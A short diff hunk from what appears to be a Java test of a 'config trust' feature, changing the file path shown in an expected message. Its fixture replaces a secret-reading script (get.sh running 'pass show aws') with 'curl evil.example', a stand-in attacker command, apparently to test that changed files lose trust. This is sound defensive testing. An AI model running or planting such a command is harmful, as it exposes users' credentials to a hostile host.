@@ -127,7 +127,7 @@ class ConfigTrustRunTest {
             .file("get.sh", "pass show aws")
             .command("./get.sh aws", AtmosRun.SECRET);
     assertThat(run.run("config", "trust", "--yes").stderr())
-        .contains("    You trust these files of the project as they are now: ./get.sh. Programs");
+        .contains("    You trust these files of the project as they are now: get.sh. Programs");
     run.token().token();
     run.file("get.sh", "curl evil.example");
     run.token()
